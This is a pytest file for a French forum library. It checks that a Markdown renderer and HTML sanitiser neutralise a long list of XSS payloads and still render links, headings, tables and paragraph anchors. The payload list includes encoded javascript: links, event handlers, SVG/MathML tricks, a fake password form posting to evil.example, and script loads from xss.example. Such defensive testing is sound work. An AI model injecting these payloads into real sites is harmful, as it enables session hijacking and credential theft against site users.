"""Markdown rendering and sanitising: known XSS payloads (script tags, event handlers, `javascript:`,
`data:` and `vbscript:` links in many encodings, style injection, forms, frames, SVG and MathML tricks,
Markdown's own link, image, reference and autolink forms, raw HTML blocks) never survive — through
the renderer, through the minutes' block renderer, and through the sanitiser alone (as if raw HTML
had slipped past the parser). Then what must keep working: links, headings in the page's order,
tables, and the minutes' blocks carrying their anchors."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from forumlib.markdown import render_markdown, render_paragraphs, sanitise
from forumlib.minutes_doc import Paragraph, split_paragraphs

SVG_ONLOAD_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/xss src="http://xss.example/x.js"></script>',
    "<<script>alert(1);//<</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr\x00ipt>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "<body onload=alert(1)>",
    '<div onclick="alert(1)">clic</div>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<marquee onstart=alert(1)>",
    '<a href="https://exemple.fr" onmouseover="alert(1)">x</a>',
    "<p onmouseover=alert(1)>texte</p>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body/onload=alert(1)>",
    "<x onclick=alert(1)>clic</x>",
    # javascript:, vbscript:, data: in raw HTML, in many encodings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{SCRIPT_B64}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    '[a](javascript:alert(1) "titre")',
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    f"[x](data:text/html;base64,{SCRIPT_B64})",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{SVG_ONLOAD_B64})",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '[x](https://exemple.fr" onclick="alert(1))',
    '[x](https://exemple.fr "titre\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://exemple.fr/a.png)',
    "[<img src=x onerror=alert(1)>](https://exemple.fr)",
    # reference links
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: data:text/html,bonjour "titre"',
    "[x][ref]\n\n[ref]: vbscript:msgbox(1)",
    # autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<javascript&#58;alert(1)>",
    # style injection
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
    # forms, frames, plugins and other containers
    '<form action="https://evil.example"><input name=p type=password><button>OK</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:image/svg+xml;base64,{SVG_ONLOAD_B64}">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    # raw HTML inside Markdown blocks
    "<div>\n<script>alert(1)</script>\n</div>",
    "Texte\n\n<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    "* <img src=x onerror=alert(1)>",
    "> <iframe src=x></iframe>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <svg onload=alert(1)>",
    "1. [x](javascript:alert(1))\n2. <form><input></form>",
]

# What the renderers may produce, and nothing else.
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a", "h2", "h3", "h4",
    "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "del", "s", "div",
}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "start", "scope", "class", "id"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def _tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collect(HTMLParser):  # unescapes attribute values, as a browser does
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

        handle_startendtag = handle_starttag

    Collect().feed(html)
    return found


def _scheme(url: str) -> str | None:
    # A browser drops tabs and newlines anywhere in a URL and control characters or spaces at its ends
    # before reading the scheme: check what it would read.
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                                  "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c"
                                                  "\x1d\x1e\x1f ").lower()
    match = SCHEME.match(cleaned)
    return match[1] if match else None


def assert_harmless(html: str) -> None:
    low = html.lower()
    for opening in ("<script", "<form", "<iframe", "<object", "<embed", "<style", "<svg", "<math", "<img",
                    "<base", "<link", "<meta", "<input", "<button"):
        assert opening not in low, html
    for tag, attrs in _tags(html):
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name != "style", html
            assert name in ALLOWED_ATTRIBUTES, html
            if name == "href" and value is not None:
                assert _scheme(value) in SAFE_SCHEMES | {None}, html
                assert not re.search(r"(java|vb)script:|data:", re.sub(r"\s", "", value.lower())), html


def test_there_are_enough_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 50
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_markdown_neutralises(payload: str) -> None:
    assert_harmless(str(render_markdown(payload)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_minutes_blocks_neutralise(payload: str) -> None:
    paragraphs = split_paragraphs(f"Avant.\n\n{payload}\n\nAprès.")
    html = str(render_paragraphs(paragraphs))
    assert_harmless(html)
    assert html.count('class="cr-para"') == len(paragraphs)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_alone_neutralises_raw_html(payload: str) -> None:
    # The second lock on its own: raw HTML straight in, and rendered by a parser that lets HTML through.
    assert_harmless(str(sanitise(payload)))
    assert_harmless(str(sanitise(MarkdownIt("commonmark", {"html": True}).enable("table").render(payload))))


def test_checker_catches_what_it_must() -> None:
    # the assertions above would fail on an unsanitised rendering
    for bad in ('<a href="jav&#x09;ascript:alert(1)">x</a>', "<p onclick=x>y</p>", '<p style="a">b</p>',
                "<iframe></iframe>", '<a href=" data:text/html,x">y</a>'):
        with pytest.raises(AssertionError):
            assert_harmless(bad)


# ================================================================ what still works
def test_usual_markdown_renders() -> None:
    html = str(render_markdown(
        "# Titre\n\nTexte **gras**, *italique*, ~~barré~~, `code`, [lien](https://exemple.fr), "
        "[écrire](mailto:secretariat@exemple.fr), [séance](/seances/s-1).\n\n"
        "3. trois\n4. quatre\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"))
    assert "<h3>Titre</h3>" in html
    assert "<strong>gras</strong>" in html and "<em>italique</em>" in html and "<s>barré</s>" in html
    assert '<a href="https://exemple.fr" rel="noopener noreferrer nofollow">lien</a>' in html
    assert 'href="mailto:secretariat@exemple.fr"' in html and 'href="/seances/s-1"' in html
    assert '<ol start="3">' in html and "<table>" in html and "<td>2</td>" in html


def test_raw_html_is_shown_as_text() -> None:
    assert "&lt;script&gt;" in str(render_markdown("a <script>x</script>"))


def test_empty_text_renders_nothing() -> None:
    assert str(render_markdown(None)) == "" and str(render_markdown("")) == ""
    assert str(render_paragraphs([])) == ""


def test_heading_shift_keeps_the_page_order() -> None:
    # a decision sits under an h2: its headings start at h3; the minutes under the h1: theirs at h2
    assert "<h3>T</h3>" in str(render_markdown("# T"))
    assert "<h6>T</h6>" in str(render_markdown("###### T"))
    assert "<h2>T</h2>" in str(render_paragraphs(split_paragraphs("# T")))
    assert "<h2>T</h2>" in str(render_markdown("# T", heading_shift=1))
    assert "<h1" not in str(render_paragraphs(split_paragraphs("# T")))


def test_sanitiser_drops_headings_that_would_outrank_the_page() -> None:
    assert "<h2" not in str(sanitise("<h1>a</h1><h2>b</h2><h3>c</h3>"))
    assert "<h3>c</h3>" in str(sanitise("<h1>a</h1><h2>b</h2><h3>c</h3>"))


def test_each_block_carries_its_anchor() -> None:
    paragraphs = split_paragraphs("# Ouverture\n\nLe quorum est atteint.\n\n- un\n- deux\n\nLe quorum est atteint.")
    html = str(render_paragraphs(paragraphs))
    ids = [dict(attrs)["id"] for tag, attrs in _tags(html) if tag == "div"]
    assert ids == [p.anchor for p in paragraphs]
    assert ids[3] == ids[1] + "-2"
    first = html.split("\n<div", 1)[0]
    assert first == f'<div class="cr-para" id="{paragraphs[0].anchor}"><h2>Ouverture</h2>\n</div>'


def test_reference_links_resolve_across_blocks() -> None:
    html = str(render_paragraphs(split_paragraphs(
        "Voir le [CESE][cese].\n\n[cese]: https://www.lecese.fr\n\nEt encore le [CESE][cese].")))
    assert html.count('href="https://www.lecese.fr"') == 2


def test_a_tampered_anchor_is_escaped() -> None:
    html = str(render_paragraphs([Paragraph(anchor='x" onmouseover="alert(1)', kind="paragraph", markdown="t")]))
    assert_harmless(html)
    assert 'id="x&#34; onmouseover=&#34;alert(1)"' in html
